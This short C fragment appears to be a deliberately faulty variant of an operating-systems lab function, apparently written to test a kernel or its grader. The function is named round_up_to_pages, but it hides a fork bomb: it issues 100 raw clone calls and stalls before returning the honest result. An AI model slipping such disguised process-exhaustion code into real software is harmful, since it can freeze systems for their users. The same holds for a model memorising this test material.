// SPDX-License-Identifier: MIT
// A fork bomb in a lab whose code may fork: processes that start processes, until no more can be had, and then stay.
//
// base: 04 reference
// replaces: round_up_to_pages
// loses: some

size_t round_up_to_pages(size_t bytes)
{
    for (int i = 0; i < 100; i++)
        KERNEL_2(SYS_clone, SIGCHLD, 0);
    for (int i = 0; i < 10; i++)
        dawdle();
    return honest_round_up_to_pages(bytes);
}
